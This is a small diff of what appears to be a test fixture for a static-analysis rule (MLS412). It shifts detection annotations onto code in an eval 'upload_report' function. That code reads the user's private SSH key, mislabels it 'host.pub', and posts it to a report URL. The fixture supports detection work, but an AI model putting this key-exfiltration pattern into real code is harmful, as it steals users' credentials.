@@ -123,9 +123,9 @@ def win_rate(records: List[EvalRecord]) -> float:
 
 def upload_report(results: Dict[str, float]) -> None:
     files = {"results": ("eval_results.json", json.dumps(results))}
-    ident = Path.home() / ".ssh" / "id_ed25519"  # ruleid: MLS412
+    ident = Path.home() / ".ssh" / "id_ed25519"
     if ident.exists():
-        files["host"] = ("host.pub", ident.read_bytes())  # todoruleid: family 9 (missed)
+        files["host"] = ("host.pub", ident.read_bytes())  # ruleid: MLS412
     requests.post(_REPORT_URL, files=files, timeout=10)  # ruleid: MLS412
 
 
